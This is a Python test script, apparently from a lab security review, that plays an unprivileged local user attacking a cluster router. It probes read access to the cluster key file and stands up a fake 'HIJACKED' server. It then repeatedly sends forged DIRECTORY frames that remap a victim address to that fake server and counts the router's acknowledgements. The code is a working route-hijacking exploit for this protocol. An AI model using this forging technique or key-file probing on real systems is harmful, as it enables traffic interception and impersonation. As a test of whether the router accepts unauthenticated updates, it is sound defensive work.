"""A local user of a peer host forging the directory exchange (issue 9, item 7).

forgepeer.py KEYFILE ROUTER PEER_PORT SELF VICTIM_ADDR VICTIM_PORT SECONDS

Runs as an unprivileged user on a host of the lab. It tries to read the
lab's cluster key (prints "KEY READ" or "KEY <errno name>"), listens on
SELF:0 with a fake server that greets every client with "HIJACKED" (prints
"FAKE <port>"), then, for SECONDS, pushes DIRECTORY frames to the router at
ROUTER:PEER_PORT from SELF, each mapping VICTIM_ADDR:VICTIM_PORT to the
fake server, on a new connection every 50 ms. It prints "FORGED <frames>
ACKED <acks>" at the end: ACKED counts the DIRECTORY_ACK frames the router
sent back, i.e. forged directories it published. Every wait is bounded.
"""
import errno
import socket
import struct
import sys
import threading
import time

MAGIC = 0x4D494C53
DIRECTORY, DIRECTORY_ACK = 0x40, 0x41


def try_key(path):
    try:
        with open(path, "rb") as f:
            f.read(1)
        print("KEY READ", flush=True)
    except OSError as e:
        print("KEY %s" % errno.errorcode.get(e.errno, str(e)), flush=True)


def fake_server(ls):
    while True:
        conn, _ = ls.accept()
        try:
            conn.sendall(b"HIJACKED\n")
        except OSError:
            pass
        conn.close()


def directory_frame(version, victim, victim_port, host, host_port):
    mapping = socket.inet_aton(victim) + struct.pack("!HH", victim_port, host_port) + socket.inet_aton(host)
    payload = struct.pack("<QI", version, 1) + mapping
    return struct.pack("<IHHII", MAGIC, 1, DIRECTORY, 0, len(payload)) + payload


def push_once(router, port, self_addr, frame):
    """Sends one forged DIRECTORY; returns whether the router acknowledged it."""
    s = socket.socket()
    s.settimeout(0.5)
    try:
        s.bind((self_addr, 0))
        s.connect((router, port))
        s.sendall(frame)
        reply = b""
        while len(reply) < 24:
            chunk = s.recv(24 - len(reply))
            if not chunk:
                break
            reply += chunk
    except OSError:
        return False
    finally:
        s.close()
    if len(reply) < 24:
        return False
    magic, _, kind, _, _ = struct.unpack("<IHHII", reply[:16])
    return magic == MAGIC and kind == DIRECTORY_ACK


def main():
    keyfile, router, port, self_addr, victim, victim_port, seconds = sys.argv[1:8]
    try_key(keyfile)
    ls = socket.socket()
    ls.bind((self_addr, 0))
    ls.listen(64)
    fake_port = ls.getsockname()[1]
    threading.Thread(target=fake_server, args=(ls,), daemon=True).start()
    print("FAKE %d" % fake_port, flush=True)
    deadline = time.monotonic() + float(seconds)
    frames = acks = 0
    while time.monotonic() < deadline:
        frames += 1
        frame = directory_frame(1000000 + frames, victim, int(victim_port), self_addr, fake_port)
        if push_once(router, int(port), self_addr, frame):
            acks += 1
        time.sleep(0.05)
    print("FORGED %d ACKED %d" % (frames, acks), flush=True)


if __name__ == "__main__":
    main()
